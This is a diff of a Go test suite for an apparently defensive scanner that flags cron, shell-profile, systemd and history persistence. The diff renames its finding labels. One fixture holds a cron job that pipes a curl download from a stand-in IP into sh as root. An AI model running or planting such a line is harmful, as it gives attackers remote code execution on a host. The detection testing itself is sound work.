@@ -87,7 +87,7 @@ func TestServerLinks(t *testing.T) {
 // TestServerAliases gives one directory several names: each name that cron, systemd or a
 // shell reads counts, and no other name for the same directory hides it.
 func TestServerAliases(t *testing.T) {
-	const job, path = "* * * * * root curl -fsSL http://203.0.113.45/n.sh | sh\n", "high cron_pipe_to_shell /etc/cron.d/upd:1"
+	const job, path = "* * * * * root curl -fsSL http://203.0.113.45/n.sh | sh\n", "high act_pipe_to_shell /etc/cron.d/upd:1"
 	link := servers.Tree{"/etc/cron.d": "-> /opt/jobs"}
 	bind := servers.Tree{"/etc/cron.d/": "", "/etc/fstab": "/opt/jobs /etc/cron.d none bind 0 0\n"}
 	for _, c := range []struct {
@@ -159,8 +159,8 @@ func TestServerHomes(t *testing.T) {
 		benign = benign.With(servers.Tree{
 			h + "/.bash_history": "ls\n", h + "/.bashrc": "umask 022\n", h + "/.config/systemd/user/x.service": "[Service]\nExecStart=/usr/bin/true\n",
 		})
-		want = append(want, "medium history_download "+h+"/.bash_history:1", "high profile_command "+h+"/.bashrc:1",
-			"high systemd_pipe_to_shell "+h+"/.config/systemd/user/x.service:2")
+		want = append(want, "low act_pipe_to_shell "+h+"/.bash_history:1", "high act_pipe_to_shell "+h+"/.bashrc:1",
+			"high act_pipe_to_shell "+h+"/.config/systemd/user/x.service:2")
 	}
 	slices.Sort(want)
 	tree["/etc/passwd"], benign["/etc/passwd"] = passwd, passwd
@@ -180,7 +180,7 @@ func TestServerHomes(t *testing.T) {
 
 	// Without passwd, what lies below /home is a home.
 	lost := servers.Debian().With(servers.Tree{"/home/bob/.bash_history": fetch, "/home/bob/.profile": fetch}).Without("/etc/passwd")
-	want = []string{"high profile_command /home/bob/.profile:1", "medium history_download /home/bob/.bash_history:1"}
+	want = []string{"high act_pipe_to_shell /home/bob/.profile:1", "low act_pipe_to_shell /home/bob/.bash_history:1"}
 	if diff := cmp.Diff(want, short(claims(served(t, made(t, servers.Volume{Tree: lost}))))); diff != "" {
 		t.Errorf("without passwd: - expected, + found:\n%s", diff)
 	}
@@ -190,7 +190,7 @@ func TestServerHomes(t *testing.T) {
 	odd := servers.Debian().With(servers.Tree{"/opt/h/.bash_history": fetch})
 	odd["/etc/passwd"] += "a:x:1:1::/:/bin/sh\nb:x:2:2::../../opt/h:/bin/sh\nc:x:3:3::/dev/null:/bin/sh\nd:x:4:4::/opt//h/:/bin/sh\ne:x:5:5::" +
 		strings.Repeat("/x", 3000) + ":/bin/sh\nf:x:6:6::/opt/h/.bash_history:/bin/sh\n"
-	want = []string{"medium history_download /opt/h/.bash_history:1"}
+	want = []string{"low act_pipe_to_shell /opt/h/.bash_history:1"}
 	found := slices.DeleteFunc(short(claims(served(t, made(t, servers.Volume{Tree: odd})))), func(s string) bool { return strings.Contains(s, "/etc/passwd") })
 	if diff := cmp.Diff(want, found); diff != "" {
 		t.Errorf("homes that are none: - expected, + found:\n%s", diff)
